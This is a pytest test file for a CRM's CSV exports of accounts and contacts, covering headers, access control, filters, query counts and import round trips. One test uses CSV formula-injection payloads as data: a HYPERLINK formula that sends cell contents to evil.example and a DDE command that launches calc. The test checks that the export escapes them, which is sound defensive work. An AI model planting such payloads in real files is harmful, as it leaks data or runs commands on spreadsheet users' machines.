"""Account and contact exports: the list's records, filters and sort as a streamed, spreadsheet-safe CSV
file whose columns the import recognises, so that a file exported, edited and imported again updates the
same records."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import StreamingHttpResponse
from django.urls import reverse

from crm.customers.importing import CONTACT_FIELDS, FIELDS
from crm.imports.services import record_import_confirm, record_import_upload
from crm.models import Account, Contact, DuplicatePolicy, ImportStatus, RecordImport, User
from tests.factories import AccountFactory, ContactFactory

pytestmark = pytest.mark.django_db
ACCOUNT_EXPORT = reverse("account-export")
CONTACT_EXPORT = reverse("contact-export")
ACCOUNT_LINK = re.compile(r'href="/accounts/(\d+)/"')
CONTACT_LINK = re.compile(r'<td[^>]*><a href="/contacts/(\d+)/"')
BOM = "\ufeff".encode()

ACCOUNT_HEADERS = [
    ("CRM record ID", "record_id"),
    ("Account name", "name"),
    ("Website", "domain"),
    ("Industry", "industry"),
    ("Employees", "employee_count"),
    ("Annual revenue", "annual_revenue"),
    ("Year founded", "year_founded"),
    ("Street", "billing_street"),
    ("City", "billing_city"),
    ("Postal code", "billing_postal_code"),
    ("State/Region", "billing_region"),
    ("Country", "billing_country"),
    ("Parent account", "parent"),
    ("Owner", "owner"),
    ("External id", "external_id"),
    ("External source", "external_source"),
]
CONTACT_HEADERS = [
    ("CRM record ID", "record_id"),
    ("First name", "first_name"),
    ("Last name", "last_name"),
    ("Email", "email"),
    ("Phone", "phone"),
    ("Job title", "title"),
    ("Account", "account"),
    ("Owner", "owner"),
    ("External id", "external_id"),
    ("External source", "external_source"),
]


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _body(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _text(response) -> str:
    return _body(response).decode("utf-8-sig")


def _rows(response) -> list[dict[str, str]]:
    return _parse(_text(response))


def _parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _ids(response) -> list[int]:
    return [int(row["CRM record ID"]) for row in _rows(response)]


def _list_ids(pattern: re.Pattern[str], response) -> list[int]:
    return [int(pk) for pk in pattern.findall(response.content.decode())]


def _edited(text: str, change: Callable[[dict[str, str]], None]) -> bytes:
    """The exported CSV text with `change` applied to each row, as a spreadsheet saves it again."""
    reader = csv.DictReader(io.StringIO(text))
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(reader.fieldnames or []))
    writer.writeheader()
    for row in reader:
        change(row)
        writer.writerow(row)
    return out.getvalue().encode("utf-8-sig")


@pytest.fixture
def reimport(django_capture_on_commit_callbacks):
    """Uploads `data` as `actor` with the guessed mapping, updating duplicates, and runs the job."""

    def run(actor: User, kind: str, data: bytes) -> RecordImport:
        record_import = record_import_upload(
            actor=actor, kind=kind, file=SimpleUploadedFile(f"{kind}.csv", data)
        )
        with django_capture_on_commit_callbacks(execute=True):
            record_import_confirm(
                actor=actor,
                import_id=record_import.pk,
                mapping=record_import.mapping,
                duplicate_policy=DuplicatePolicy.UPDATE,
                all_or_nothing=False,
                owner=None,
            )
        record_import.refresh_from_db()
        return record_import

    return run


def _problems(record_import: RecordImport) -> list[tuple[int, str, str]]:
    return list(record_import.errors.order_by("line", "id").values_list("line", "field", "message"))


def _state(model: type[Account] | type[Contact]) -> dict[int, dict[str, Any]]:
    """Every record's fields, but the time of its last change."""
    return {
        record.pk: {
            field.attname: getattr(record, field.attname)
            for field in model._meta.concrete_fields
            if field.name != "updated_at"
        }
        for record in model.objects.all()
    }


# The files


def test_the_account_file_is_a_streamed_csv_download_with_a_bom_and_the_import_columns(as_user, rep):
    parent = AccountFactory(owner=rep, name="Globex Holding", domain="globex.example")
    account = AccountFactory(
        owner=rep,
        name="Globex Services",
        domain="globex-services.example",
        industry="Services",
        employee_count=1200,
        annual_revenue=Decimal("4500000.50"),
        year_founded=1989,
        billing_street="Hauptstraße 1",
        billing_city="Wien",
        billing_postal_code="1010",
        billing_region="Wien",
        billing_country="Austria",
        parent=parent,
        external_source="salesforce",
        external_id="001B",
    )

    response = as_user(rep).get(ACCOUNT_EXPORT)

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="accounts-\d{4}-\d{2}-\d{2}\.csv"', response["Content-Disposition"]
    )
    body = _body(response)
    assert body.startswith(BOM)
    assert body[len(BOM) :].decode().splitlines()[0] == ",".join(header for header, _ in ACCOUNT_HEADERS)
    rows = {row["Account name"]: row for row in _parse(body.decode("utf-8-sig"))}
    assert rows["Globex Services"] == {
        "CRM record ID": str(account.pk),
        "Account name": "Globex Services",
        "Website": "globex-services.example",
        "Industry": "Services",
        "Employees": "1200",
        "Annual revenue": "4500000.50",
        "Year founded": "1989",
        "Street": "Hauptstraße 1",
        "City": "Wien",
        "Postal code": "1010",
        "State/Region": "Wien",
        "Country": "Austria",
        "Parent account": "Globex Holding",
        "Owner": rep.email,
        "External id": "001B",
        "External source": "salesforce",
    }
    assert (rows["Globex Holding"]["Parent account"], rows["Globex Holding"]["Employees"]) == ("", "")


def test_the_contact_file_has_the_import_columns(as_user, rep):
    contact = ContactFactory(
        owner=rep,
        first_name="Zoë",
        last_name="Łukasiewicz",
        email="zoe@example.com",
        phone="+49 30 1234567",
        title="CTO",
        account=AccountFactory(owner=rep, name="株式会社テスト"),
    )

    response = as_user(rep).get(CONTACT_EXPORT)

    assert re.fullmatch(
        r'attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"', response["Content-Disposition"]
    )
    body = _body(response)
    assert body.startswith(BOM)
    assert body[len(BOM) :].decode().splitlines()[0] == ",".join(header for header, _ in CONTACT_HEADERS)
    assert _parse(body.decode("utf-8-sig")) == [
        {
            "CRM record ID": str(contact.pk),
            "First name": "Zoë",
            "Last name": "Łukasiewicz",
            "Email": "zoe@example.com",
            "Phone": "'+49 30 1234567",  # a spreadsheet would read it as a formula
            "Job title": "CTO",
            "Account": "株式会社テスト",
            "Owner": rep.email,
            "External id": "",
            "External source": "",
        }
    ]


@pytest.mark.parametrize(
    ("fields", "headers"),
    [(FIELDS, ACCOUNT_HEADERS), (CONTACT_FIELDS, CONTACT_HEADERS)],
    ids=["accounts", "contacts"],
)
def test_the_import_maps_every_exported_column_to_its_field(fields, headers):
    assert fields.guess([header for header, _ in headers]) == dict(headers)


@pytest.mark.parametrize(
    ("typed", "exported"),
    [
        (
            '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
            '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        ),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=cmd|' /C calc'!A0", "'\t=cmd|' /C calc'!A0"),
        ("  =1+2", "'  =1+2"),
        ("Mid=formula", "Mid=formula"),
    ],
)
def test_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(as_user, rep, typed, exported):
    account = AccountFactory(owner=rep, name=typed, industry=typed, billing_city=typed)
    ContactFactory(owner=rep, account=account, first_name=typed, last_name=typed, title=typed)

    [account_row] = _rows(as_user(rep).get(ACCOUNT_EXPORT))
    [contact_row] = _rows(as_user(rep).get(CONTACT_EXPORT))

    assert (account_row["Account name"], account_row["Industry"], account_row["City"]) == (exported,) * 3
    assert (contact_row["First name"], contact_row["Last name"], contact_row["Job title"]) == (exported,) * 3
    assert contact_row["Account"] == exported


# Who exports what, through which filters


def test_the_account_export_has_the_lists_accounts_filters_and_sort_not_only_its_page(as_user, rep):
    for number in range(30):
        AccountFactory(owner=rep, name=f"Acme {number:02}", industry="Software")
    AccountFactory(owner=rep, name="Acme Hardware", industry="Hardware")
    client = as_user(rep)
    query = {"industry": "software", "ordering": "-name"}

    exported = _ids(client.get(ACCOUNT_EXPORT, query))
    listed = _list_ids(ACCOUNT_LINK, client.get(reverse("account-list"), query))

    names = Account.objects.in_bulk(exported)
    assert [names[pk].name for pk in exported] == [f"Acme {number:02}" for number in reversed(range(30))]
    assert exported[: len(listed)] == listed  # the list's first page, then the rest


def test_the_contact_export_follows_the_list_sorted_by_account(as_user, rep):
    acme = AccountFactory(owner=rep, name="Acme")
    zeta = AccountFactory(owner=rep, name="Zeta")
    ContactFactory(owner=rep, account=zeta, last_name="Adams")
    ContactFactory(owner=rep, account=acme, last_name="Young")
    ContactFactory(owner=rep, account=None, last_name="Nobody")
    client = as_user(rep)

    exported = _rows(client.get(CONTACT_EXPORT, {"ordering": "account"}))
    listed = _list_ids(CONTACT_LINK, client.get(reverse("contact-list"), {"ordering": "account"}))

    assert [row["Last name"] for row in exported] == ["Nobody", "Young", "Adams"]
    assert [int(row["CRM record ID"]) for row in exported] == listed
    filtered = _rows(client.get(CONTACT_EXPORT, {"account": acme.pk}))
    assert [row["Last name"] for row in filtered] == ["Young"]


def test_a_reps_exports_hold_only_what_their_lists_show(as_user, rep, teammate):
    mine = AccountFactory(owner=rep, name="Mine")
    AccountFactory(owner=teammate, name="Teammate's secret")
    my_contact = ContactFactory(owner=rep, account=mine)
    ContactFactory(owner=teammate, last_name="Secret")
    client = as_user(rep)

    accounts = _ids(client.get(ACCOUNT_EXPORT))
    contacts = _ids(client.get(CONTACT_EXPORT))

    assert accounts == _list_ids(ACCOUNT_LINK, client.get(reverse("account-list"))) == [mine.pk]
    assert contacts == _list_ids(CONTACT_LINK, client.get(reverse("contact-list"))) == [my_contact.pk]


def test_an_outsider_asking_for_a_reps_accounts_gets_only_the_header(as_user, rep, outsider):
    AccountFactory(owner=rep)
    ContactFactory(owner=rep)
    client = as_user(outsider)

    for url, headers in ((ACCOUNT_EXPORT, ACCOUNT_HEADERS), (CONTACT_EXPORT, CONTACT_HEADERS)):
        text = _text(client.get(url, {"owner": rep.pk}))
        assert text.splitlines() == [",".join(header for header, _ in headers)]


def test_the_exports_need_a_signed_in_user_and_a_get(client, as_user, rep):
    assert client.get(ACCOUNT_EXPORT).status_code == 302
    assert client.get(CONTACT_EXPORT).status_code == 302
    assert as_user(rep).post(ACCOUNT_EXPORT).status_code == 405


def test_the_lists_offer_the_export_with_their_filters(as_user, rep, marketer):
    AccountFactory(owner=rep, industry="Software")
    ContactFactory(owner=rep)

    for user in (rep, marketer):  # whoever sees the list, whether or not they may import
        client = as_user(user)
        accounts = client.get(
            reverse("account-list"), {"industry": "software", "after": "x"}
        ).content.decode()
        contacts = client.get(reverse("contact-list"), {"owner": rep.pk}).content.decode()
        assert f'href="{ACCOUNT_EXPORT}?industry=software"' in accounts
        assert f'href="{CONTACT_EXPORT}?owner={rep.pk}"' in contacts


def test_the_query_count_does_not_grow_with_the_records(as_user, rep, assert_same_query_count):
    for _ in range(2):
        ContactFactory(owner=rep, account=AccountFactory(owner=rep, parent=AccountFactory(owner=rep)))
    client = as_user(rep)

    def grow() -> None:
        for _ in range(18):
            ContactFactory(owner=rep, account=AccountFactory(owner=rep, parent=AccountFactory(owner=rep)))

    for url in (ACCOUNT_EXPORT, CONTACT_EXPORT):
        assert_same_query_count(lambda url=url: _body(client.get(url)), grow=grow)


def test_the_export_reads_a_batch_per_query(as_user, rep, monkeypatch):
    from crm.customers import exporting
    from tests.conftest import count_queries

    monkeypatch.setattr(exporting, "BATCH_SIZE", 3)
    AccountFactory.create_batch(7, owner=rep)
    client = as_user(rep)
    _body(client.get(ACCOUNT_EXPORT))  # warm the session

    with count_queries() as seven:
        rows = _rows(client.get(ACCOUNT_EXPORT))
    AccountFactory.create_batch(3, owner=rep)
    with count_queries() as ten:
        _body(client.get(ACCOUNT_EXPORT))

    assert len(rows) == 7
    assert len(ten.captured_queries) == len(seven.captured_queries) + 1  # 3 batches, then 4


# The round trip


def test_an_exported_account_file_edited_and_imported_again_updates_the_same_accounts(as_user, rep, reimport):
    holding = AccountFactory(
        owner=rep,
        name="Globex Holding",
        domain="globex.example",
        industry="Manufacturing",
        employee_count=1200,
        annual_revenue=Decimal("4500000.00"),
        year_founded=1989,
        billing_street="Hauptstraße 1",
        billing_city="Wien",
        billing_postal_code="1010",
        billing_region="Wien",
        billing_country="Austria",
    )
    AccountFactory(owner=rep, name="Globex Services", domain="", industry="Services", parent=holding)
    AccountFactory(
        owner=rep,
        name="=HYPERLINK(1)",  # formula-looking text comes back as it was, without the apostrophe
        domain="initech.example",
        industry="-minus",
        external_source="salesforce",
        external_id="001C",
    )
    AccountFactory(owner=rep, name="Unnamed Industry", domain="", industry="")
    before = _state(Account)

    def change(row: dict[str, str]) -> None:
        if row["Account name"] == "Globex Holding":
            row["Industry"] = "Aerospace"

    data = _edited(_text(as_user(rep).get(ACCOUNT_EXPORT)), change)
    record_import = reimport(rep, "accounts", data)

    assert record_import.status == ImportStatus.DONE
    assert (record_import.created_count, record_import.updated_count, record_import.error_count) == (
        0,
        4,
        0,
    ), _problems(record_import)
    assert record_import.skipped_count == 0
    after = _state(Account)
    assert after[holding.pk]["industry"] == "Aerospace"
    after[holding.pk]["industry"] = "Manufacturing"
    assert after == before


def test_an_exported_contact_file_edited_and_imported_again_updates_the_same_contacts(as_user, rep, reimport):
    acme = AccountFactory(owner=rep, name="Acme", domain="acme.example")
    ada = ContactFactory(
        owner=rep,
        account=acme,
        first_name="Ada",
        last_name="Lovelace",
        email="ada@example.com",
        phone="+44 20 7946 0958",
        title="Engineer",
        external_source="hubspot",
        external_id="501",
    )
    ContactFactory(owner=rep, account=None, first_name="", last_name="@Mention", email="", title="-")
    ContactFactory(
        owner=rep, account=acme, first_name="Zoë", last_name="Łukasiewicz", email="zoe@example.com"
    )
    before = _state(Contact)

    def change(row: dict[str, str]) -> None:
        if row["Email"] == "ada@example.com":
            row["Job title"] = "Chief Engineer"

    data = _edited(_text(as_user(rep).get(CONTACT_EXPORT)), change)
    record_import = reimport(rep, "contacts", data)

    assert record_import.status == ImportStatus.DONE
    assert (record_import.created_count, record_import.updated_count, record_import.error_count) == (
        0,
        3,
        0,
    ), _problems(record_import)
    after = _state(Contact)
    assert after[ada.pk]["title"] == "Chief Engineer"
    after[ada.pk]["title"] = "Engineer"
    assert after == before


def test_an_email_guarded_against_formulas_comes_back_without_its_apostrophe(as_user, rep, reimport):
    contact = ContactFactory(owner=rep, account=None, last_name="Dash", email="-dash@example.com")

    text = _text(as_user(rep).get(CONTACT_EXPORT))
    assert "'-dash@example.com" in text  # a spreadsheet would read "-dash..." as a formula
    record_import = reimport(rep, "contacts", _edited(text, lambda row: None))

    assert (record_import.updated_count, record_import.error_count) == (1, 0)
    contact.refresh_from_db()
    assert contact.email == "-dash@example.com"  # stored as "'-dash@example.com"
